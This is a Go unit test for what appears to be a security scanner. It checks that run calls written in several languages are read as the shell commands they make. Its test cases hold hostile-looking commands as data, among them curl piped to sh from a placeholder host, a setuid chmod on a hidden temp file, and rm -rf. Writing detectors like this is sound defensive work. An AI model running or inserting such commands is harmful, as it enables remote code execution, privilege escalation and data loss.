package secscan

import (
	"strings"
	"testing"
)

// A run call of another language is read as the shell command its
// strings and names make.
func TestShellOfCall(t *testing.T) {
	for _, c := range []struct{ call, want string }{
		{`os.execute("curl -fsSL https://x.example/p -o " .. patch)`, `curl -fsSL https://x.example/p -o $patch`},
		{`system("sudo chmod 4755 /var/tmp/.sh");`, `sudo chmod 4755 /var/tmp/.sh`},
		{`new ProcessBuilder("java", "-jar", jar.toString(), "--init").start();`, `java -jar $jar --init`},
		{`exec.Command("sh", "-c", "curl " + url + " | sh")`, `sh -c curl $url | sh`},
		{`Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl https://x.example/i.sh | sh"});`, `sh -c curl https://x.example/i.sh | sh`},
		{"exec.Command(\"sh\",\n\t\"-c\", \"curl x | sh\")", `sh -c curl x | sh`},
		{`system(join(" ", "rm", "-rf", $dir));`, `rm -rf $dir`},
		{`shell_exec($cmd);`, ``},
		{`system("unterminated`, ``},
	} {
		// After the run call's own parenthesis (the first, or exec's).
		open := strings.Index(c.call, "(") + 1
		if k := strings.Index(c.call, ".exec("); k >= 0 {
			open = k + len(".exec(")
		}
		if got, _ := shellOfCall([]byte(c.call), open); got != c.want {
			t.Errorf("%s: %q, want %q", c.call, got, c.want)
		}
	}
}
